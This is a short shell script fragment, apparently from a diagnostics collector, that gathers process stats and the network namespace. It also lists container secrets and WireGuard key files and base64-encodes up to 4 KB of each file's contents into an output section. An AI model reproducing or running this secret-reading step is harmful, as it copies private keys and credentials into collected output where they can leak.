# shellcheck shell=sh # read after section.sh
# Secret files by what may be known of them, and their content, which the collector seals and drops.
secret_files() {
  for file in /run/secrets/* "${WG_PRIVATE_KEY_FILE:-}" "${WG_PRESHARED_KEY_FILE:-}" "${WG_PEER_PUBLIC_KEY_FILE:-}"; do
    if [ -f "$file" ]; then stat -L -c '%n %a %u' "$file"; fi
  done
}

secret_contents() {
  secret_files | while read -r file _rest; do
    printf '%s ' "$file"
    head -c 4096 "$file" | base64 | tr -d '\n'
    echo
  done
}

# Processes come and go while they are listed.
processes() {
  cat /proc/[0-9]*/stat 2>/dev/null || true
}

section processes processes
section netns readlink /proc/self/ns/net
section secret-files secret_files
section secret-contents secret_contents
